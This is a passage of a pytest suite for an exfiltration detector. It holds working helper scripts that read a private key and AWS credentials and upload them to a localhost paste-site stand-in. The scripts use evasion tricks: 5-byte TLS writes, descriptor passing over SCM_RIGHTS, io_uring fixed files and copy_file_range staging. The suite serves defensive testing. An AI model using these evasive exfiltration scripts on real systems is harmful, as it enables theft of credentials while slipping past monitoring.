def uring_send(uring_dgram, op):
    return f"{uring_dgram} --send" if op == "send" else str(uring_dgram)


@pytest.mark.parametrize("op", URING_SENDS)
def test_io_uring_send_with_an_address_to_a_relay(monitor, standin, fake_home, tmp_path, uring_dgram, op):
    key = key_of(fake_home)
    send = uring_send(uring_dgram, op)
    dgram_relay_run(monitor, standin, fake_home, tmp_path, f"uring-{op}",
                    f"{send} {{sink}} /etc/os-release; {send} {{relay}} {key}", "alert")
    assert_no_secret(monitor, key)


@pytest.mark.parametrize("op", URING_SENDS)
def test_io_uring_send_of_a_report_to_a_relay_is_silent(monitor, standin, fake_home, tmp_path, uring_dgram, op):
    # The key goes to the sink that keeps it, the report to the relay that uploads.
    key = key_of(fake_home)
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed\n" * 100)
    send = uring_send(uring_dgram, op)
    dgram_relay_run(monitor, standin, fake_home, tmp_path, f"uring-{op}-twin",
                    f"{send} {{sink}} {key}; {send} {{relay}} {report}", "silent")


# --- Class: a secret cut across TLS writes -------------------------------------------------------
# No token is whole in any one SSL_write: the body goes in 5-byte writes. The scan joins each write
# to the connection's previous one (the tail it keeps), so the key's lines are still matched.

CHUNKED_POST = """
import socket, ssl, sys

data = open(sys.argv[1], "rb").read()
c = ssl._create_unverified_context()
s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
request = b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data
for at in range(0, len(request), 5):
    s.write(request[at:at + 5])
s.recv(100)
"""


def chunked_post(tmp_path, path):
    tool = tmp_path / "chunked_post.py"
    tool.write_text(CHUNKED_POST.format(port=HTTPS_PORT, paste=PASTE))
    return f"{paths.PYTHON} {tool} {path}"


def chunked_scans(monitor, tmp_path):
    """The content scans of this test's chunked writer (its command line names its directory)."""
    return [r for r in monitor.records() if get(r, "event.action") == "content-scan" and str(tmp_path) in json.dumps(r)]


def test_key_cut_across_5_byte_tls_writes_is_a_content_match(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    found = run_attack(upload_scenario("chunked-tls", chunked_post(tmp_path, key)), monitor, standin, fake_home,
                       tmp_path)
    evidence = [s.get("evidence", "") for a in found for s in as_list(get(a, "exfilwatch.signals", []))
                if s.get("name") == "content-match"]
    assert any("in the body" in e for e in evidence), evidence
    scans = chunked_scans(monitor, tmp_path)
    assert len(scans) > 20 and max(get(r, "exfilwatch.content.scanned", 0) for r in scans) <= 5, \
        "the writes were not cut small"
    assert_no_secret(monitor, key)


def test_harmless_file_cut_across_5_byte_tls_writes_is_silent(monitor, standin, fake_home, tmp_path):
    silent_run(monitor, standin, fake_home, tmp_path, "chunked-tls-twin", chunked_post(tmp_path, HARMLESS))
    scans = chunked_scans(monitor, tmp_path)
    assert len(scans) > 20 and not any(get(r, "exfilwatch.content.matches") for r in scans)


# --- Class: a descriptor passed by SCM_RIGHTS ---------------------------------------------------
# The opener never reads; the receiver, in another session, reads the key through the fd it was
# given (a read of a file it was not seen opening) and uploads it.

SCM_FILE_TOOL = """
import os, socket, ssl, sys, time

def post(data):
    c = ssl._create_unverified_context()
    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
    s.recv(100)

mode, path = sys.argv[1], sys.argv[2]
if mode == "take":                       # receive an fd, read what it opens, upload it
    l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    l.bind(path)
    l.listen(1)
    open(sys.argv[3], "w").close()
    c, _ = l.accept()
    _, fds, _, _ = socket.recv_fds(c, 16, 1)
    data = b""
    while True:
        chunk = os.read(fds[0], 65536)
        if not chunk:
            break
        data += chunk
    post(data)
else:                                    # open a file (never read it) and pass the fd on
    fd = os.open(sys.argv[3], os.O_RDONLY)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    socket.send_fds(s, [b"f"], [fd])
"""


def scm_file_shell(tmp_path, passed):
    tool = tmp_path / "scm_file.py"
    tool.write_text(SCM_FILE_TOOL.format(port=HTTPS_PORT, paste=PASTE))
    sock, ready = tmp_path / "fd.sock", tmp_path / "fd.ready"
    return (f"{paths.PYTHON} {tool} take {sock} {ready} & "
            f"for i in $(seq 200); do [ -e {ready} ] && break; sleep 0.05; done; "
            f"setsid {paths.PYTHON} {tool} give {sock} {passed}; wait")


def test_file_descriptor_of_the_key_passed_by_scm_rights(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    dataflow_attack(monitor, standin, fake_home, tmp_path, "scm-rights-file", scm_file_shell(tmp_path, key))
    records = monitor.records()
    inode = str(os.stat(key).st_ino)
    readers = [r for r in records
               if is_action("file-summary", {"file.inode": inode})(r)
               and get(r, "exfilwatch.file.bytes_read", 0) >= os.stat(key).st_size]
    assert readers, "no file-summary of the key read through the passed fd"
    assert all(get(r, "file.path") == str(key) for r in readers), [get(r, "file.path") for r in readers]
    assert_no_secret(monitor, key)


def test_file_descriptor_of_a_harmless_file_passed_by_scm_rights_is_silent(monitor, standin, fake_home,
                                                                           tmp_path):
    # The twin: a log file's fd handed to the uploader the same way (a log shipper's shape).
    log = tmp_path / "build.log"
    log.write_text("step 3 of 7 done\n" * 200)
    silent_run(monitor, standin, fake_home, tmp_path, "scm-rights-harmless", scm_file_shell(tmp_path, log))


# --- Class: io_uring fixed files, direct descriptors and zero-copy sends -----------------------

@pytest.fixture(scope="module")
def uring_fixed(c_tool):
    return c_tool("uring_fixed", "-luring")


def uring_fixed_scenario(binary, first, second, expect):
    from harness.config import HTTP_PORT
    shell = f"{binary} {HTTP_PORT} {PASTE} {first} {second}"
    extra = {"technique": "T1567.003"} if expect == "alert" else {}
    return Scenario(f"uring-fixed-{expect}", expect, shell, domain=PASTE, uploads=True, **extra), HTTP_PORT


def test_io_uring_fixed_files_and_zero_copy_send(monitor, standin, fake_home, tmp_path, uring_fixed):
    # The key opened into a fixed-file slot (no fd, no open(2)), the AWS credentials registered as
    # a fixed file and their fd closed; each read with READ and READ_FIXED on the fixed file and
    # SPLICE from it; both files sent with SEND_ZC as a plain-HTTP POST to the paste site.
    key = key_of(fake_home)
    aws = fake_home.files[".aws/credentials"]
    scenario, _ = uring_fixed_scenario(uring_fixed, key, aws, "alert")
    found = run_attack(scenario, monitor, standin, fake_home, tmp_path)
    assert any(get(a, "destination.domain") == PASTE for a in found), [get(a, "destination.domain") for a in found]
    records = monitor.records()
    opens = opened(records, key, "uring_fixed")
    assert all(not get(r, "exfilwatch.file.requested_path") for r in opens)
    opened(records, aws, "uring_fixed", requested=str(aws))
    for path in (key, aws):
        size = os.stat(path).st_size
        summaries = [r for r in records
                     if is_action("file-summary", {"process.name": "uring_fixed", "file.path": str(path)})(r)]
        assert summaries, f"no file-summary of {path}"
        assert get(summaries[-1], "exfilwatch.file.bytes_read") == 3 * size, \
            f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 3 x {size} read"
    assert_no_secret(monitor, key)


def test_io_uring_fixed_files_of_harmless_files_are_silent(monitor, standin, fake_home, tmp_path, uring_fixed):
    report, notes = tmp_path / "report.txt", tmp_path / "notes.txt"
    report.write_text("build 1234 passed\n" * 100)
    notes.write_text("release notes\n" * 100)
    scenario, port = uring_fixed_scenario(uring_fixed, report, notes, "silent")
    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(scenario, standin)
    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == port
                     and get(r, "destination.domain") == PASTE, WAIT_S, f"a flow-summary to {PASTE}:{port}")
    monitor.stop()
    records = monitor.records()
    assert [r for r in records if is_action("file-summary", {"process.name": "uring_fixed",
                                                             "file.path": str(report)})(r)]
    assert_silent([r for r in records if get(r, "destination.port") == port or str(tmp_path) in json.dumps(r)])


# --- Class: copy_file_range to a staging file --------------------------------------------------
# The kernel copies file to file (no read(2) or write(2) of the bytes in the process); the
# staging file then goes up under its own name.

COPY_RANGE = ("import os, sys; i = os.open(sys.argv[1], os.O_RDONLY); "
              "o = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600); "
              "n = os.fstat(i).st_size\n"
              "while n > 0: n -= os.copy_file_range(i, o, n)")


def test_copy_file_range_to_a_staging_file(monitor, standin, fake_home, tmp_path):
    key = key_of(fake_home)
    stage = tmp_path / "stage.bin"
    shell = (f"{paths.PYTHON} -c '{COPY_RANGE}' {key} {stage} && " + UPLOAD.format(stage))
    dataflow_attack(monitor, standin, fake_home, tmp_path, "copy-file-range", shell)
    assert_no_secret(monitor, key)


def test_copy_file_range_of_a_harmless_file_is_silent(monitor, standin, fake_home, tmp_path):
    report = tmp_path / "report.txt"
    report.write_text("build 1234 passed\n" * 200)
    stage = tmp_path / "stage.bin"
    shell = (f"{paths.PYTHON} -c '{COPY_RANGE}' {report} {stage} && " + UPLOAD.format(stage))
    silent_run(monitor, standin, fake_home, tmp_path, "copy-file-range-harmless", shell)
